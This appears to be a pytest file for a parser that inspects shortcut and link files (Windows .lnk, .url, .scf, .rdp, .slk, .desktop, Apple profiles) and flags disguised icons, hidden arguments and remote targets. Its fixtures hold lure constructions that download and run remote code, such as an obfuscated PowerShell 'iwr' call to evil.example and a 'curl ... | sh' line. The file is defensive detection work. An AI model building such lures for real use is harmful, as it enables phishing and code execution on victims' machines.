"""Shortcuts of every kind: what they start, and where they lead."""

from __future__ import annotations

import plistlib
import random

import pytest

from sabaki.files import shortcut
from sabaki.files.opened import Asked, Opened
from tests.files.shelllinks import shell_link


def read(content: bytes | str, name: str = "") -> Opened:
    return shortcut.read(content.encode() if isinstance(content, str) else content, Asked(name))


def detail(opened: Opened, id: str) -> str:
    return next((trait.detail for trait in opened.traits if trait.id == id), "-")


def test_hidden_arguments_and_a_false_icon() -> None:
    content = shell_link(
        local="C:\\Windows\\System32\\cmd.exe",
        arguments=" " * 300 + "/c pow^ersh^ell -c iwr https://evil.example/a.ps1",
        icon="%ProgramFiles%\\Adobe\\AcroRd32.exe",
        window=7,
    )
    opened = read(content, "invoice.pdf.lnk")
    assert detail(opened, "command").startswith("C:\\Windows\\System32\\cmd.exe /c pow^er")
    assert detail(opened, "obfuscated") == "arguments behind 300 blanks"
    assert detail(opened, "icon_disguise").endswith("AcroRd32.exe,0")
    assert [link.raw for link in opened.links] == ["https://evil.example/a.ps1"]
    assert "window: minimised" in opened.text


def test_an_ordinary_shortcut_has_no_more_than_its_command() -> None:
    opened = read(shell_link(local="C:\\Program Files\\App\\app.exe", icon="C:\\Program Files\\App\\app.ico"))
    assert [trait.id for trait in opened.traits] == ["command"]
    opened = read(shell_link(local="C:\\Users\\taro\\report.docx", icon="C:\\Office\\WINWORD.EXE"))
    assert detail(opened, "icon_disguise") == "-"


def test_webdav_and_share() -> None:
    opened = read(
        shell_link(network="\\\\evil.example@SSL@8443\\DavWWWRoot\\x", arguments="\\\\198.51.100.7\\s\\a.dll,Run")
    )
    assert ("remote_target", "\\\\evil.example@SSL@8443\\DavWWWRoot\\x") in [(t.id, t.detail) for t in opened.traits]
    raws = {link.raw for link in opened.links}
    assert {"https://evil.example:8443/x", "file://198.51.100.7/s/a.dll"} <= raws


def test_what_hangs_on_the_end() -> None:
    opened = read(shell_link(local="C:\\mshta.exe", appended=b"<script>new ActiveXObject('x')</script>" * 3))
    assert opened.children[0].content is not None
    assert opened.children[0].content.startswith(b"<script>")
    padded = read(shell_link(local="C:\\a.exe", appended=b"\0" * 100_000))
    assert detail(padded, "absurd_padding") == "100000 bytes"
    assert not padded.children


@pytest.mark.parametrize(
    ("content", "name", "trait", "said", "raw"),
    [
        ("[InternetShortcut]\r\nURL=https://a.example/x\r\n", "a.url", "", "", "https://a.example/x"),
        ("[InternetShortcut]\r\nURL=file://198.51.100.7/s/a.js\r\n", "a.url", "remote_target", "file://198.51.100.7/s/a.js",
         "file://198.51.100.7/s/a.js"),
        ("[InternetShortcut]\nURL=https://a.example/\nIconFile=\\\\evil.example\\i\\a.ico\n", "a.url", "remote_target",
         "\\\\evil.example\\i\\a.ico", "file://evil.example/i/a.ico"),
        ("[InternetShortcut]\nURL=ms-msdt:/id x\n", "a.url", "command", "ms-msdt:/id x", "ms-msdt:/id x"),
        ("[InternetShortcut]\nURL=https://a.example/\nIconFile=C:\\Acrobat\\AcroRd32.exe\n", "a.url", "icon_disguise",
         "C:\\Acrobat\\AcroRd32.exe", "https://a.example/"),
        ("[Desktop Entry]\nType=Application\nName=invoice\nIcon=application-pdf\nExec=sh -c 'curl https://a.example/x|sh'\n",
         "a.desktop", "command", "sh -c 'curl https://a.example/x|sh'", "https://a.example/x"),
        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\a\\b.ico\r\n", "a.scf", "remote_target",
         "\\\\198.51.100.7\\a\\b.ico", "file://198.51.100.7/a/b.ico"),
        ("full address:s:203.0.113.5:3389\r\ndrivestoredirect:s:*\r\n", "a.rdp", "remote_target",
         "203.0.113.5:3389 (drives handed over)", "rdp://203.0.113.5:3389"),
        ("WEB\r\n1\r\nhttps://a.example/q\r\n", "a.iqy", "external_link", "https://a.example/q", "https://a.example/q"),
        ("ID;PWXL;N;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"mshta https://a.example/h\")\n", "a.slk", "xlm_macro",
         'EXEC("mshta https://a.example/h")', "https://a.example/h"),
        ("<?xml version='1.0'?><PCSettings><DeepLink>%windir%\\cmd.exe /c https://a.example/s</DeepLink></PCSettings>",
         "a.settingcontent-ms", "command",
         "%windir%\\cmd.exe /c https://a.example/s", "https://a.example/s"),
        ("<libraryDescription xmlns='http://schemas.microsoft.com/windows/2009/library'><simpleLocation><url>\\\\198.51.100.7\\share</url></simpleLocation></libraryDescription>", "a.library-ms",
         "remote_target", "\\\\198.51.100.7\\share", "file://198.51.100.7/share"),
        ("<?xml version='1.0'?><plist><dict><key>URL</key><string>https://a.example/?a=1&amp;b=2</string></dict></plist>",
         "a.webloc", "", "", "https://a.example/?a=1&b=2"),
        ("[Theme]\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\198.51.100.7\\w.jpg\r\n", "a.theme", "remote_target",
         "\\\\198.51.100.7\\w.jpg", "file://198.51.100.7/w.jpg"),
    ],
)  # fmt: skip
def test_written_shortcuts(content: str, name: str, trait: str, said: str, raw: str) -> None:
    opened = read(content, name)
    assert raw in [link.raw for link in opened.links]
    if trait:
        assert said in [found.detail for found in opened.traits if found.id == trait]
    else:
        assert not opened.traits


def test_clickonce_in_utf16() -> None:
    opened = read("\ufeffhttps://a.example/app.application#app, Culture=neutral".encode("utf-16-le"), "a.appref-ms")
    assert [link.raw for link in opened.links] == ["https://a.example/app.application"]
    assert detail(opened, "command").endswith("https://a.example/app.application")


def test_signed_configuration_profile() -> None:
    payload = plistlib.dumps(
        {
            "PayloadContent": [
                {"PayloadType": "com.apple.mail.managed", "IncomingMailServerHostName": "mail.evil.example"},
                {"PayloadType": "com.apple.webClip.managed", "URL": "https://evil.example/app"},
            ],
            "PayloadDisplayName": "メール設定",
            "PayloadType": "Configuration",
        }
    )
    opened = read(
        b"\x30\x82\x08\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x82" + payload + bytes(range(128, 255))
    )
    assert (
        detail(opened, "command")
        == "installs a configuration profile: com.apple.mail.managed, com.apple.webClip.managed"
    )
    assert detail(opened, "remote_target") == "IncomingMailServerHostName: mail.evil.example"
    assert [link.raw for link in opened.links] == ["https://evil.example/app"]
    assert opened.title == "メール設定"


def test_binary_property_list() -> None:
    for address in ("https://a.example/", "https://a.example/" + "x" * 300, "smb://198.51.100.7/s"):
        opened = read(plistlib.dumps({"URL": address}, fmt=plistlib.FMT_BINARY), "a.webloc")
        assert [link.raw for link in opened.links] == [address]


def test_a_path_on_the_computer_is_not_remote() -> None:
    for path in ("C:\\a", "\\\\.\\pipe\\x", "\\\\localhost\\c$", "file:///C:/a", "a\\b", "\\\\?\\C:\\x"):
        assert shortcut.remote(path) == ""


def test_never_raises_on_damage() -> None:
    dice = random.Random(5)
    samples = [
        (shell_link(local="C:\\cmd.exe", arguments="x" * 90, environment="%x%", appended=b"y" * 90), "a.lnk"),
        (b"[InternetShortcut]\r\nURL=https://a.example/\r\nIconFile=\\\\x\\y", "a.url"),
        (plistlib.dumps({"URL": "https://a.example/" + "x" * 50}, fmt=plistlib.FMT_BINARY), "a.webloc"),
        (b"<?xml version='1.0'?><PCSettings><DeepLink>x</DeepLink>", "a.settingcontent-ms"),
    ]
    for content, name in samples:
        for end in range(0, len(content), 5):
            read(content[:end], name)
        for _ in range(100):
            broken = bytearray(content)
            broken[dice.randrange(len(broken))] = dice.randrange(256)
            read(bytes(broken), name)
